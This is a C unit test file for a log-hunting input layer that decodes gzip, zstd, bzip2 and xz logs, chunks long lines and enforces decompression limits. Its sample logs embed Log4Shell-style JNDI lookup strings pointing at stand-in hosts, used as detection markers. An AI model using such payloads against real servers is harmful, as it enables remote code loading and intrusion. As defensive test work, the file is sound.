/*
 * test-hunt-input.c - the hunt input layer (koban/huntio.h): compression told
 * by magic; every compression decoded, in memory and through files larger
 * than a read; concatenated gzip members, zstd frames, bzip2 and xz streams;
 * truncated and corrupt streams give located errors after the lines before
 * them; non-UTF-8 and NUL bytes, CRLF, no final newline, empty input; long
 * lines chunked with their overlap (1 MB, 5 MB, exact limit, small limits);
 * the zstd window and xz memory limits. The compressed data is made here
 * with the same libraries.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdbool.h>
#include <setjmp.h>
#include <cmocka.h>

#include <bzlib.h>
#include <fcntl.h>
#include <lzma.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <zlib.h>
#include <zstd.h>

#include "koban/huntio.h"

/* ---- compressors ------------------------------------------------------ */

typedef struct bytes {
	uint8_t *p;
	size_t n;
} bytes;

static void bytes_add(bytes *b, const void *p, size_t n)
{
	b->p = realloc(b->p, b->n + n + 1); /* few calls per test */
	assert_non_null(b->p);
	if (n)
		memcpy(b->p + b->n, p, n);
	b->n += n;
}

static bytes gz(const void *p, size_t n)
{
	z_stream z;
	memset(&z, 0, sizeof z);
	assert_int_equal(deflateInit2(&z, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
	bytes out = { malloc(deflateBound(&z, n) + 64), 0 };
	z.next_in = (Bytef *)p;
	z.avail_in = (uInt)n;
	z.next_out = out.p;
	z.avail_out = (uInt)deflateBound(&z, n) + 64;
	assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
	out.n = z.total_out;
	deflateEnd(&z);
	return out;
}

/* With the content checksum on, as the zstd command writes it. */
static bytes zst(const void *p, size_t n)
{
	bytes out = { malloc(ZSTD_compressBound(n)), 0 };
	ZSTD_CCtx *c = ZSTD_createCCtx();
	ZSTD_CCtx_setParameter(c, ZSTD_c_compressionLevel, 3);
	ZSTD_CCtx_setParameter(c, ZSTD_c_checksumFlag, 1);
	out.n = ZSTD_compress2(c, out.p, ZSTD_compressBound(n), p, n);
	assert_false(ZSTD_isError(out.n));
	ZSTD_freeCCtx(c);
	return out;
}

static bytes bz2(const void *p, size_t n)
{
	unsigned cap = (unsigned)(n + n / 100 + 600);
	bytes out = { malloc(cap), 0 };
	assert_int_equal(BZ2_bzBuffToBuffCompress((char *)out.p, &cap, (char *)p, (unsigned)n, 9, 0, 0), BZ_OK);
	out.n = cap;
	return out;
}

static bytes xz(const void *p, size_t n)
{
	size_t cap = lzma_stream_buffer_bound(n);
	bytes out = { malloc(cap), 0 };
	assert_int_equal(lzma_easy_buffer_encode(6, LZMA_CHECK_CRC64, NULL, p, n, out.p, &out.n, cap), LZMA_OK);
	return out;
}

typedef bytes (*compress_fn)(const void *, size_t);

static bytes plain(const void *p, size_t n)
{
	bytes out = { NULL, 0 };
	bytes_add(&out, p, n);
	return out;
}

/* ---- reading everything ----------------------------------------------- */

typedef struct got_line {
	char *data;
	size_t len;
	uint64_t lineno, offset;
	size_t overlap;
	unsigned flags;
} got_line;

typedef struct got {
	got_line *v;
	size_t n;
	int rc;          /* 0, or the error */
	kb_error err;
	kb_hunt_compression comp;
} got;

static void got_free(got *g)
{
	for (size_t i = 0; i < g->n; i++)
		free(g->v[i].data);
	free(g->v);
}

static got read_lines(kb_hunt_input *in, const kb_hunt_lines_opts *opts)
{
	got g;
	memset(&g, 0, sizeof g);
	g.comp = kb_hunt_input_compression(in);
	kb_hunt_lines *r = NULL;
	assert_int_equal(kb_hunt_lines_new(in, opts, &r), 0);
	kb_hunt_line l;
	int rc;
	while ((rc = kb_hunt_lines_next(r, &l, &g.err)) == 1) {
		if ((g.n & (g.n - 1)) == 0) /* grow at powers of two */
			g.v = realloc(g.v, (g.n ? 2 * g.n : 1) * sizeof *g.v);
		got_line *o = &g.v[g.n++];
		o->data = malloc(l.len + 1);
		if (l.len)
			memcpy(o->data, l.data, l.len);
		o->len = l.len;
		o->lineno = l.lineno;
		o->offset = l.offset;
		o->overlap = l.overlap;
		o->flags = l.flags;
	}
	g.rc = rc;
	if (rc < 0) {
		/* sticky */
		kb_error e2;
		assert_int_equal(kb_hunt_lines_next(r, &l, &e2), rc);
		assert_int_equal(e2.offset, g.err.offset);
	}
	kb_hunt_lines_free(r);
	return g;
}

static got read_mem(const bytes *b, const kb_hunt_lines_opts *opts, bool zlib)
{
	kb_hunt_input *in = NULL;
	kb_error err;
	assert_int_equal(kb_hunt_input_open_mem(b->p, b->n, "mem", &in, &err), 0);
	if (zlib)
		kb_hunt_input_use_zlib(in);
	got g = read_lines(in, opts);
	kb_hunt_input_free(in);
	return g;
}

static char tmpdir[] = "/tmp/kb-hunt-input-XXXXXX";
static int tmp_seq;

static char *write_tmp(const bytes *b)
{
	char *path = malloc(strlen(tmpdir) + 32);
	sprintf(path, "%s/f%d", tmpdir, tmp_seq++);
	FILE *f = fopen(path, "wb");
	assert_non_null(f);
	assert_int_equal(fwrite(b->p, 1, b->n, f), b->n);
	fclose(f);
	return path;
}

static got read_file(const bytes *b, const kb_hunt_lines_opts *opts, bool zlib)
{
	char *path = write_tmp(b);
	kb_hunt_input *in = NULL;
	kb_error err;
	assert_int_equal(kb_hunt_input_open(path, &in, &err), 0);
	if (zlib)
		kb_hunt_input_use_zlib(in);
	got g = read_lines(in, opts);
	kb_hunt_input_free(in);
	unlink(path);
	free(path);
	return g;
}

/* Lines (not chunked) put back together equal `text`; offsets and numbers agree. */
static void check_rebuild(const got *g, const char *text, size_t n)
{
	size_t off = 0;
	for (size_t i = 0; i < g->n; i++) {
		const got_line *l = &g->v[i];
		assert_int_equal(l->lineno, i + 1);
		assert_int_equal(l->offset, off);
		assert_int_equal(l->flags & (KB_HUNT_LINE_MORE | KB_HUNT_LINE_CONT), 0);
		assert_true(off + l->len <= n);
		assert_memory_equal(l->data, text + off, l->len);
		off += l->len;
		if (l->flags & KB_HUNT_LINE_CR) {
			assert_int_equal(text[off], '\r');
			off++;
		}
		if (l->flags & KB_HUNT_LINE_NOEOL) {
			assert_int_equal(i, g->n - 1);
		} else {
			assert_int_equal(text[off], '\n');
			off++;
		}
	}
	assert_int_equal(off, n);
}

/* A log-like text with non-UTF-8 bytes, a NUL, CRLF and an empty line. */
static const char sample[] =
	"10.0.0.1 - - [10/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 12\n"
	"bytes \xff\xfe\xc3\x28 not utf-8 \x80\n"
	"with a \0 NUL inside\n"
	"\n"
	"crlf line\r\n"
	"${jndi:ldap://x.example/a}\n"
	"last line without newline";

static void test_detect(void **state)
{
	(void)state;
	const uint8_t gzm[] = { 0x1f, 0x8b, 8, 0 }, zsm[] = { 0x28, 0xb5, 0x2f, 0xfd },
	              skip[] = { 0x5a, 0x2a, 0x4d, 0x18 }, xzm[] = { 0xfd, '7', 'z', 'X', 'Z', 0 };
	assert_int_equal(kb_hunt_detect(gzm, 4), KB_HUNT_GZIP);
	assert_int_equal(kb_hunt_detect(zsm, 4), KB_HUNT_ZSTD);
	assert_int_equal(kb_hunt_detect(skip, 4), KB_HUNT_ZSTD);
	assert_int_equal(kb_hunt_detect("BZh9", 4), KB_HUNT_BZIP2);
	assert_int_equal(kb_hunt_detect("BZh0", 4), KB_HUNT_PLAIN);
	assert_int_equal(kb_hunt_detect(xzm, 6), KB_HUNT_XZ);
	assert_int_equal(kb_hunt_detect(xzm, 5), KB_HUNT_PLAIN);
	assert_int_equal(kb_hunt_detect(gzm, 1), KB_HUNT_PLAIN);
	assert_int_equal(kb_hunt_detect("", 0), KB_HUNT_PLAIN);
	assert_string_equal(kb_hunt_compression_name(KB_HUNT_BZIP2), "bzip2");
	assert_non_null(kb_hunt_gzip_backend());
}

static void roundtrip(compress_fn fn, kb_hunt_compression want)
{
	bytes c = fn(sample, sizeof sample - 1);
	for (int zl = 0; zl < 2; zl++) {
		got g = read_mem(&c, NULL, zl);
		assert_int_equal(g.rc, 0);
		assert_int_equal(g.comp, want);
		assert_int_equal(g.n, 7);
		check_rebuild(&g, sample, sizeof sample - 1);
		assert_int_equal(g.v[1].len, strlen("bytes \xff\xfe\xc3\x28 not utf-8 \x80"));
		assert_int_equal(g.v[2].len, 19); /* the NUL does not end the line */
		assert_int_equal(g.v[3].len, 0);
		assert_true(g.v[4].flags & KB_HUNT_LINE_CR);
		assert_int_equal(g.v[4].len, 9);
		assert_true(g.v[6].flags & KB_HUNT_LINE_NOEOL);
		got_free(&g);
		g = read_file(&c, NULL, zl);
		assert_int_equal(g.rc, 0);
		assert_int_equal(g.n, 7);
		check_rebuild(&g, sample, sizeof sample - 1);
		got_free(&g);
	}
	free(c.p);
}

static void test_plain(void **state) { (void)state; roundtrip(plain, KB_HUNT_PLAIN); }
static void test_gzip(void **state) { (void)state; roundtrip(gz, KB_HUNT_GZIP); }
static void test_zstd(void **state) { (void)state; roundtrip(zst, KB_HUNT_ZSTD); }
static void test_bzip2(void **state) { (void)state; roundtrip(bz2, KB_HUNT_BZIP2); }
static void test_xz(void **state) { (void)state; roundtrip(xz, KB_HUNT_XZ); }

static void test_empty(void **state)
{
	(void)state;
	compress_fn fns[] = { plain, gz, zst, bz2, xz };
	for (size_t i = 0; i < 5; i++) {
		bytes c = fns[i]("", 0);
		got g = read_mem(&c, NULL, false);
		assert_int_equal(g.rc, 0);
		assert_int_equal(g.n, 0);
		got_free(&g);
		g = read_file(&c, NULL, false);
		assert_int_equal(g.rc, 0);
		assert_int_equal(g.n, 0);
		got_free(&g);
		free(c.p);
	}
	/* a lone newline and a lone CR */
	bytes c = plain("\n", 1);
	got g = read_mem(&c, NULL, false);
	assert_int_equal(g.n, 1);
	assert_int_equal(g.v[0].len, 0);
	got_free(&g);
	free(c.p);
	c = plain("\r", 1);
	g = read_mem(&c, NULL, false);
	assert_int_equal(g.n, 1);
	assert_int_equal(g.v[0].len, 1); /* no '\n' after it: kept */
	assert_int_equal(g.v[0].flags, KB_HUNT_LINE_NOEOL);
	got_free(&g);
	free(c.p);
}

/* Deterministic text larger than several reads, poorly compressible. */
static char *big_text(size_t lines, size_t *ret_n)
{
	size_t cap = lines * 80, n = 0;
	char *t = malloc(cap);
	uint64_t x = 88172645463325252ull;
	for (size_t i = 0; i < lines; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		n += (size_t)sprintf(t + n, "%zu %016llx %llu GET /p/%llx\n", i, (unsigned long long)x,
		                     (unsigned long long)(x % 9973), (unsigned long long)(x >> 20));
	}
	*ret_n = n;
	return t;
}

/* Several members back to back, split inside a line; read from files so the
 * member boundaries fall anywhere in the read buffer. */
static void concat(compress_fn fn, kb_hunt_compression want)
{
	size_t n;
	char *t = big_text(120000, &n); /* ~6 MB */
	size_t cuts[] = { 0, 17, n / 3 + 5, n / 3 + 6, 2 * n / 3 + 11, n };
	bytes all = { NULL, 0 };
	for (size_t i = 0; i + 1 < sizeof cuts / sizeof *cuts; i++) {
		bytes c = fn(t + cuts[i], cuts[i + 1] - cuts[i]);
		bytes_add(&all, c.p, c.n);
		free(c.p);
	}
	for (int zl = 0; zl < 2; zl++) {
		got g = read_file(&all, NULL, zl);
		assert_int_equal(g.rc, 0);
		assert_int_equal(g.comp, want);
		assert_int_equal(g.n, 120000);
		check_rebuild(&g, t, n);
		got_free(&g);
		g = read_mem(&all, NULL, zl);
		assert_int_equal(g.rc, 0);
		check_rebuild(&g, t, n);
		got_free(&g);
	}
	free(all.p);
	free(t);
}

static void test_concat_gzip(void **state) { (void)state; concat(gz, KB_HUNT_GZIP); }
static void test_concat_zstd(void **state) { (void)state; concat(zst, KB_HUNT_ZSTD); }
static void test_concat_bzip2(void **state) { (void)state; concat(bz2, KB_HUNT_BZIP2); }
static void test_concat_xz(void **state) { (void)state; concat(xz, KB_HUNT_XZ); }

/* Many tiny gzip members: ISA-L's read-ahead must be given back every time. */
static void test_gzip_many_members(void **state)
{
	(void)state;
	bytes all = { NULL, 0 };
	char text[4000];
	size_t n = 0;
	for (int i = 0; i < 300; i++) {
		char line[16];
		int k = sprintf(line, "m%d\n", i);
		memcpy(text + n, line, (size_t)k);
		n += (size_t)k;
		bytes c = gz(line, (size_t)k);
		bytes_add(&all, c.p, c.n);
		free(c.p);
	}
	for (int zl = 0; zl < 2; zl++) {
		got g = read_mem(&all, NULL, zl);
		assert_int_equal(g.rc, 0);
		assert_int_equal(g.n, 300);
		check_rebuild(&g, text, n);
		got_free(&g);
	}
	free(all.p);
}

/* Truncation: an error with the compressed offset, the earlier lines kept,
 * the broken last line flagged PARTIAL. */
static void truncated(compress_fn fn, bool file)
{
	size_t n;
	char *t = big_text(60000, &n);
	bytes c = fn(t, n);
	bytes cut = { NULL, 0 };
	bytes_add(&cut, c.p, c.n * 2 / 3);
	for (int zl = 0; zl < 2; zl++) {
		got g = file ? read_file(&cut, NULL, zl) : read_mem(&cut, NULL, zl);
		assert_int_equal(g.rc, KB_EPARSE);
		assert_int_equal(g.err.offset, cut.n);
		assert_string_equal(g.err.file, file ? g.err.file : "mem");
		assert_true(g.n > 1000);
		/* every line but the last is whole and in place */
		size_t off = 0;
		for (size_t i = 0; i < g.n; i++) {
			assert_int_equal(g.v[i].offset, off);
			assert_memory_equal(g.v[i].data, t + off, g.v[i].len);
			off += g.v[i].len + 1;
		}
		assert_true(g.v[g.n - 1].flags & KB_HUNT_LINE_PARTIAL || t[off - 1] == '\n');
		assert_int_equal(g.err.line, g.v[g.n - 1].lineno + (g.v[g.n - 1].flags & KB_HUNT_LINE_PARTIAL ? 0 : 1));
		got_free(&g);
	}
	free(cut.p);
	free(c.p);
	free(t);
}

static void test_truncated_gzip(void **state) { (void)state; truncated(gz, false); truncated(gz, true); }
static void test_truncated_zstd(void **state) { (void)state; truncated(zst, false); truncated(zst, true); }
static void test_truncated_bzip2(void **state) { (void)state; truncated(bz2, false); truncated(bz2, true); }
static void test_truncated_xz(void **state) { (void)state; truncated(xz, false); truncated(xz, true); }

static void test_corrupt_and_trailing(void **state)
{
	(void)state;
	size_t n;
	char *t = big_text(20000, &n);
	compress_fn fns[] = { gz, zst, bz2, xz };
	for (size_t i = 0; i < 4; i++) {
		bytes c = fns[i](t, n);
		/* flip bytes in the middle */
		for (size_t k = c.n / 2; k < c.n / 2 + 16; k++)
			c.p[k] ^= 0x5a;
		got g = read_mem(&c, NULL, false);
		assert_int_equal(g.rc, KB_EPARSE);
		assert_true(g.err.offset <= c.n);
		assert_true(g.err.offset >= c.n / 4);
		got_free(&g);
		free(c.p);
	}
	/* trailing bytes that are not another member */
	bytes c = gz("a\nb\n", 4);
	size_t member = c.n;
	bytes_add(&c, "garbage!", 8);
	for (int zl = 0; zl < 2; zl++) {
		got g = read_mem(&c, NULL, zl);
		assert_int_equal(g.rc, KB_EPARSE);
		assert_int_equal(g.err.offset, member);
		assert_int_equal(g.n, 2);
		got_free(&g);
	}
	free(c.p);
	free(t);
}

/* ---- long lines ---------------------------------------------------------- */

/* Chunks of one long line: lengths, offsets, flags, overlaps, and the whole
 * line covered in order. */
static void check_chunks(const got *g, size_t first, const char *line, size_t len, size_t max, size_t ov)
{
	size_t pos = 0, i = first;
	for (;; i++) {
		assert_true(i < g->n);
		const got_line *c = &g->v[i];
		assert_int_equal(c->lineno, g->v[first].lineno);
		assert_int_equal(c->offset, g->v[first].offset + pos);
		assert_memory_equal(c->data, line + pos, c->len);
		if (i > first) {
			assert_true(c->flags & KB_HUNT_LINE_CONT);
			assert_int_equal(c->overlap, ov);
		} else {
			assert_false(c->flags & KB_HUNT_LINE_CONT);
			assert_int_equal(c->overlap, 0);
		}
		if (c->flags & KB_HUNT_LINE_MORE) {
			assert_int_equal(c->len, max);
			pos += max - ov;
		} else {
			assert_true(c->len <= max);
			assert_int_equal(pos + c->len, len);
			break;
		}
	}
}

static void long_line(size_t len, compress_fn fn)
{
	/* one short line, the long line with a marker across every chunk border, one short line */
	size_t n = 6 + len + 1 + 6;
	char *t = malloc(n);
	memcpy(t, "short\n", 6);
	char *line = t + 6;
	for (size_t i = 0; i < len; i++)
		line[i] = (char)('a' + i % 23);
	size_t step = KB_HUNT_MAX_LINE - KB_HUNT_LINE_OVERLAP;
	const char marker[] = "${jndi:ldap://border.example/x}";
	const size_t mlen = sizeof marker - 1;
	for (size_t b = KB_HUNT_MAX_LINE; b + mlen < len; b += step)
		memcpy(line + b - 10, marker, mlen);
	line[len] = '\n';
	memcpy(t + 6 + len + 1, "after\n", 6);
	bytes c = fn(t, n);
	got g = read_file(&c, NULL, false);
	assert_int_equal(g.rc, 0);
	assert_int_equal(g.v[0].len, 5);
	size_t chunks = len <= KB_HUNT_MAX_LINE ? 1 : 1 + (len - KB_HUNT_LINE_OVERLAP - 1) / step;
	assert_int_equal(g.n, 2 + chunks);
	check_chunks(&g, 1, line, len, KB_HUNT_MAX_LINE, KB_HUNT_LINE_OVERLAP);
	assert_int_equal(g.v[g.n - 1].lineno, 3);
	assert_int_equal(g.v[g.n - 1].len, 5);
	assert_int_equal(g.v[g.n - 1].offset, 6 + len + 1);
	/* every marker across a chunk border is whole inside some chunk */
	for (size_t b = KB_HUNT_MAX_LINE; b + mlen < len; b += step) {
		uint64_t at = 6 + b - 10;
		bool whole = false;
		for (size_t i = 1; i + 1 < g.n && !whole; i++)
			whole = g.v[i].offset <= at && at + mlen <= g.v[i].offset + g.v[i].len &&
			        memcmp(g.v[i].data + (at - g.v[i].offset), marker, mlen) == 0;
		assert_true(whole);
	}
	got_free(&g);
	free(c.p);
	free(t);
}

static void test_line_1mb(void **state)
{
	(void)state;
	long_line(1000000, plain);               /* a 1 MB line: whole */
	long_line(KB_HUNT_MAX_LINE, plain);      /* exactly the limit: whole */
	long_line(KB_HUNT_MAX_LINE + 1, plain);  /* one byte more: two chunks */
}

static void test_line_5mb(void **state)
{
	(void)state;
	long_line(5u << 20, plain);
	long_line(5u << 20, gz);
	long_line(5000000, zst);
}

/* Small limits through the options: chunk arithmetic checked exactly, also
 * for a long last line without '\n', CRLF after a chunked line, and a long
 * line in a truncated stream. */
static void test_small_limits(void **state)
{
	(void)state;
	kb_hunt_lines_opts o = { .max_line = 10, .overlap = 3 };
	const char *t = "0123456789ABCDEFGHIJ\nab\r\n0123456789abcdefghijklmnopqrstu";
	bytes c = plain(t, strlen(t));
	got g = read_mem(&c, &o, false);
	assert_int_equal(g.rc, 0);
	/* line 1: 20 bytes: [0,10) [7,17) [14,20) */
	assert_int_equal(g.n, 3 + 1 + 4);
	check_chunks(&g, 0, t, 20, 10, 3);
	assert_int_equal(g.v[2].len, 6);
	assert_int_equal(g.v[3].len, 2);
	assert_int_equal(g.v[3].flags, KB_HUNT_LINE_CR);
	assert_int_equal(g.v[3].lineno, 2);
	/* line 3: 31 bytes without newline: [0,10) [7,17) [14,24) [21,31) */
	check_chunks(&g, 4, t + 25, 31, 10, 3);
	assert_true(g.v[7].flags & KB_HUNT_LINE_NOEOL);
	got_free(&g);
	free(c.p);

	/* exactly max_line bytes: whole */
	c = plain("0123456789\n", 11);
	g = read_mem(&c, &o, false);
	assert_int_equal(g.n, 1);
	assert_int_equal(g.v[0].len, 10);
	assert_int_equal(g.v[0].flags, 0);
	got_free(&g);
	free(c.p);

	/* options are clamped: huge max_line, overlap >= half */
	kb_hunt_lines_opts big = { .max_line = (size_t)1 << 40, .overlap = (size_t)1 << 39 };
	c = plain("x\n", 2);
	g = read_mem(&c, &big, false);
	assert_int_equal(g.n, 1);
	got_free(&g);
	free(c.p);
}

/* Tiny read sizes: decoders stopped by a full output at every byte. */
static void test_small_reads(void **state)
{
	(void)state;
	compress_fn fns[] = { plain, gz, zst, bz2, xz };
	for (size_t i = 0; i < 5; i++) {
		bytes c = fns[i](sample, sizeof sample - 1);
		for (size_t rs = 1; rs <= 7; rs += 3) {
			kb_hunt_lines_opts o = { 0, 0, rs };
			for (int zl = 0; zl < 2; zl++) {
				got g = read_mem(&c, &o, zl);
				assert_int_equal(g.rc, 0);
				check_rebuild(&g, sample, sizeof sample - 1);
				got_free(&g);
			}
		}
		free(c.p);
	}
}

/* The zstd window limit: a frame header asking for a 2 GiB window. */
static void test_limit_zstd_window(void **state)
{
	(void)state;
	/* magic, descriptor (no content size, not single segment), window 2^31 */
	const uint8_t frame[] = { 0x28, 0xb5, 0x2f, 0xfd, 0x00, (31 - 10) << 3,
	                          0x01, 0x00, 0x00 /* a raw last block of 0 bytes */ };
	bytes c = plain(frame, sizeof frame);
	got g = read_mem(&c, NULL, false);
	assert_int_equal(g.rc, KB_ELIMIT);
	assert_int_equal(g.n, 0);
	got_free(&g);
	free(c.p);
	/* the same frame with a window at the limit decodes (to nothing) */
	c = plain(frame, sizeof frame);
	c.p[5] = (KB_HUNT_ZSTD_WINDOW_LOG_MAX - 10) << 3;
	g = read_mem(&c, NULL, false);
	assert_int_equal(g.rc, 0);
	got_free(&g);
	free(c.p);
}

/* The xz memory limit: a block header whose LZMA2 dictionary is 1 GiB. */
static void test_limit_xz_memory(void **state)
{
	(void)state;
	uint8_t s[24];
	const uint8_t magic[6] = { 0xfd, '7', 'z', 'X', 'Z', 0 };
	memcpy(s, magic, 6);
	s[6] = 0;
	s[7] = 0; /* check: none */
	uint32_t crc = (uint32_t)crc32(0, s + 6, 2);
	for (int i = 0; i < 4; i++)
		s[8 + i] = (uint8_t)(crc >> (8 * i));
	/* block header: size (12/4 - 1), flags (1 filter), LZMA2 id, 1 prop byte, dict 1 GiB, padding, CRC32 */
	uint8_t *b = s + 12;
	b[0] = 2;
	b[1] = 0;
	b[2] = 0x21;
	b[3] = 1;
	b[4] = 36; /* (2 | 0) << (36 / 2 + 11) = 1 GiB */
	b[5] = b[6] = b[7] = 0;
	crc = (uint32_t)crc32(0, b, 8);
	for (int i = 0; i < 4; i++)
		b[8 + i] = (uint8_t)(crc >> (8 * i));
	bytes c = plain(s, sizeof s);
	got g = read_mem(&c, NULL, false);
	assert_int_equal(g.rc, KB_ELIMIT);
	/* stopped at the block header (liblzma buffers it whole first) */
	assert_true(g.err.offset >= 12 && g.err.offset <= sizeof s);
	got_free(&g);
	free(c.p);
	/* xz -9 (64 MiB dictionary) stays under the limit */
	size_t cap = lzma_stream_buffer_bound(5);
	bytes x = { malloc(cap), 0 };
	assert_int_equal(lzma_easy_buffer_encode(9, LZMA_CHECK_CRC32, NULL, (const uint8_t *)"abc\nd", 5, x.p, &x.n, cap),
	                 LZMA_OK);
	g = read_mem(&x, NULL, false);
	assert_int_equal(g.rc, 0);
	assert_int_equal(g.n, 2);
	got_free(&g);
	free(x.p);
}

static void test_open_errors(void **state)
{
	(void)state;
	kb_hunt_input *in = NULL;
	kb_error err;
	assert_int_equal(kb_hunt_input_open("/nonexistent/koban/x.log", &in, &err), KB_EIO);
	assert_null(in);
	assert_int_not_equal(err.sys_errno, 0);
	assert_int_equal(kb_hunt_input_open(tmpdir, &in, &err), KB_EIO); /* a directory */
	assert_null(in);
	assert_null(kb_hunt_input_free(NULL));
	assert_null(kb_hunt_lines_free(NULL));
}

/* A pipe: the input cannot seek and reads come short. */
static void test_fd_pipe(void **state)
{
	(void)state;
	bytes c = gz(sample, sizeof sample - 1);
	int p[2];
	assert_int_equal(pipe(p), 0);
	assert_int_equal(write(p[1], c.p, c.n), (ssize_t)c.n);
	close(p[1]);
	kb_hunt_input *in = NULL;
	kb_error err;
	assert_int_equal(kb_hunt_input_open_fd(p[0], "pipe", &in, &err), 0);
	got g = read_lines(in, NULL);
	assert_int_equal(g.rc, 0);
	check_rebuild(&g, sample, sizeof sample - 1);
	assert_int_equal(kb_hunt_input_compressed_offset(in), c.n);
	got_free(&g);
	kb_hunt_input_free(in);
	close(p[0]);
	free(c.p);
}

static int setup(void **state)
{
	(void)state;
	return mkdtemp(tmpdir) ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	return rmdir(tmpdir);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_detect),
		cmocka_unit_test(test_plain),
		cmocka_unit_test(test_gzip),
		cmocka_unit_test(test_zstd),
		cmocka_unit_test(test_bzip2),
		cmocka_unit_test(test_xz),
		cmocka_unit_test(test_empty),
		cmocka_unit_test(test_concat_gzip),
		cmocka_unit_test(test_concat_zstd),
		cmocka_unit_test(test_concat_bzip2),
		cmocka_unit_test(test_concat_xz),
		cmocka_unit_test(test_gzip_many_members),
		cmocka_unit_test(test_truncated_gzip),
		cmocka_unit_test(test_truncated_zstd),
		cmocka_unit_test(test_truncated_bzip2),
		cmocka_unit_test(test_truncated_xz),
		cmocka_unit_test(test_corrupt_and_trailing),
		cmocka_unit_test(test_line_1mb),
		cmocka_unit_test(test_line_5mb),
		cmocka_unit_test(test_small_limits),
		cmocka_unit_test(test_small_reads),
		cmocka_unit_test(test_limit_zstd_window),
		cmocka_unit_test(test_limit_xz_memory),
		cmocka_unit_test(test_open_errors),
		cmocka_unit_test(test_fd_pipe),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
